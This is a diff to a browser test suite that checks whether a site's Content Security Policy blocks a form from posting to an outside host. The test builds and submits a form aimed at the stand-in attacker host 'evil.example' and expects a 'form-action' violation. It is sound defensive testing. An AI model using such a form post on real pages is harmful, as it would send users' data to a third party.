@@ -225,6 +225,16 @@ def test_a_change_is_one_change(small: BrowserContext, demo: BuiltSite) -> None:
     assert errors == []
 
 
+# Submits a form to a stranger, and tells which rule of the policy refuses it.
+_SUBMIT_ELSEWHERE = """() => new Promise((done) => {
+  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => done(effectiveDirective));
+  const form = document.createElement("form");
+  Object.assign(form, { action: "https://evil.example/", method: "post" });
+  document.body.append(form);
+  form.submit();
+})"""
+
+
 def test_a_form_is_posted_to_the_service_and_to_nobody_else(
     small: BrowserContext, posting: BuiltSite
 ) -> None:
@@ -259,9 +269,7 @@ def test_a_form_is_posted_to_the_service_and_to_nobody_else(
     page.goto(f"{posting.address}/list-your-group/thanks/")
     page.wait_for_function("!Object.keys(localStorage).some((key) => key.includes('form'))")
     page.goto(f"{posting.address}/list-your-group/")
-    page.evaluate("document.body.append(Object.assign(document.createElement('form'), "
-                  "{ action: 'https://evil.example/', method: 'post', id: 'evil' }))")  # fmt: skip
-    page.evaluate("document.getElementById('evil').submit()")
+    assert page.evaluate(_SUBMIT_ELSEWHERE) == "form-action"
     page.goto(f"{posting.address}/something-wrong/")
     assert bodies == []
     policy = page.locator("meta[http-equiv=Content-Security-Policy]").get_attribute("content") or ""
